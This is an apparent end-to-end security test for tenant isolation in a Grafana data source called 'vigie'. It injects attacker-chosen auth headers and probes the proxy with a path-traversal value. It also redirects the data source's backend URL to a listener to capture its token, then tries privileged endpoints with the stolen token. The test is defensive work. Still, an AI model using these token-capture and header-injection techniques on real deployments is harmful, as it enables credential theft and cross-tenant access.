import type { GrafanaReport } from '../../../backend/src/cli/grafana/report.ts';
import { grafanaCaller, grafanaChannel } from '../../../backend/src/doctor/isolation/channels/grafana-channel.ts';
import { httpChannel } from '../../../backend/src/doctor/isolation/channels/http-channel.ts';
import { NO_COMMAND, vigie } from '../support/command.ts';
import { expect } from '../support/fixtures.ts';
import { attack, startListener } from './attack.ts';
import { adminTest, DATA_SOURCE, ENTERPRISE, OTHER, question } from './tenant-admin.ts';

adminTest(
  'every attack through the data source of a tenant shows what is of that tenant',
  async ({ stack, account }) => {
    adminTest.setTimeout(600_000);
    const settings = { url: stack.grafanaUrl, user: account.login, password: account.password };
    const ledger = await attack(stack, ENTERPRISE, grafanaChannel(grafanaCaller(settings, account.orgId)));
    expect(ledger.leaks).toEqual([]);
    expect(ledger.queries).toBeGreaterThan(500);
  }
);

adminTest(
  'the token that a tenant can make the data source give away opens what is of that tenant, until apply ends it',
  async ({ stack, admin, attempt }) => {
    adminTest.setTimeout(600_000);
    adminTest.skip(!stack.backendVariables, NO_COMMAND);
    const listener = await startListener();
    try {
      const settings = (await (await admin.get(DATA_SOURCE)).json()) as { jsonData: object };
      const change = async (changes: object) =>
        expect((await admin.put(DATA_SOURCE, { data: { ...settings, ...changes, version: undefined } })).status()).toBe(
          200
        );

      // Headers of the attacker's making: were they sent, the main organisation's token would open everything.
      await change({
        jsonData: { ...settings.jsonData, httpHeaderName1: 'Authorization', httpHeaderName2: 'X-Vigie-Role' },
        secureJsonData: { httpHeaderValue1: `Bearer ${stack.token}`, httpHeaderValue2: 'Admin' },
      });
      const rows = await attempt('POST', '/api/ds/query', {
        data: question('counters.sites', { enterprise: [OTHER] }),
      });
      expect(rows.text).toContain('"values":[[],');

      // An address behind the raw proxy, which sends no token. Grafana tells two changes apart by the second.
      await expect(async () => {
        await change({ url: stack.backendUrl });
        for (const path of ['v1/sites', 'v1/tokens', '..%2fv1/sites', 'v1/query']) {
          const answer = await attempt('GET', `/api/datasources/proxy/uid/vigie/${path}`);
          expect(answer.status, path).toBeGreaterThanOrEqual(400);
        }
      }).toPass();

      await expect(async () => {
        await change({ url: '', jsonData: { ...settings.jsonData, backendUrl: listener.url } });
        await attempt('POST', '/api/ds/query', { data: question('counters.sites') });
        expect(listener.tokens()).not.toEqual([]);
      }).toPass();
      const [stolen] = listener.tokens();
      expect(stolen).toMatch(/^vig_/);
      expect(stolen).not.toBe(stack.token);

      const ask = (path: string, method = 'GET', body?: unknown) =>
        fetch(`${stack.backendUrl}/v1/${path}`, {
          method,
          headers: { authorization: `Bearer ${stolen}`, 'content-type': 'application/json', 'x-vigie-role': 'Admin' },
          ...(body === undefined ? {} : { body: JSON.stringify(body) }),
        });
      for (const [method, path, body] of [
        ['GET', 'tokens'],
        ['POST', 'tokens', { name: 'à moi', scopes: ['admin'] }],
        ['GET', 'audit'],
        ['GET', 'doctor'],
        ['GET', 'jobs'],
        ['POST', 'jobs/run', { job: 'purge' }],
        ['POST', 'sync', {}],
        ['GET', 'connections'],
        ['GET', 'grafana/orgs'],
        ['POST', 'secrets/rotate', {}],
        ['POST', 'sites', { enterprise: ENTERPRISE, code: '999' }],
      ] as const) {
        expect((await ask(path, method, body)).status, `${method} ${path}`).toBe(403);
      }
      expect((await ask('sites')).status).toBe(200);
      const ledger = await attack(stack, ENTERPRISE, httpChannel(stack.backendUrl, stolen ?? ''));
      expect(ledger.leaks).toEqual([]);
      expect(ledger.queries).toBeGreaterThan(500);

      const plan = await vigie(stack, ['grafana', 'plan', '--json']);
      const { changes } = JSON.parse(plan.stdout) as GrafanaReport;
      expect(changes).toMatchObject([{ org: ENTERPRISE, object: 'data source vigie' }]);
      expect(changes[0]?.detail?.en).toContain(listener.url);
      expect((await vigie(stack, ['grafana', 'apply'])).exitCode).toBe(0);
      expect((await vigie(stack, ['grafana', 'plan'])).stdout).toContain('Nothing to do.');
      expect((await ask('sites')).status).toBe(401);
      const again = await attempt('POST', '/api/ds/query', { data: question('counters.sites') });
      expect(again.status).toBe(200);
      expect(again.text).toContain(`"${ENTERPRISE}"`);
    } finally {
      await listener.close();
      await vigie(stack, ['grafana', 'apply']);
    }
  }
);
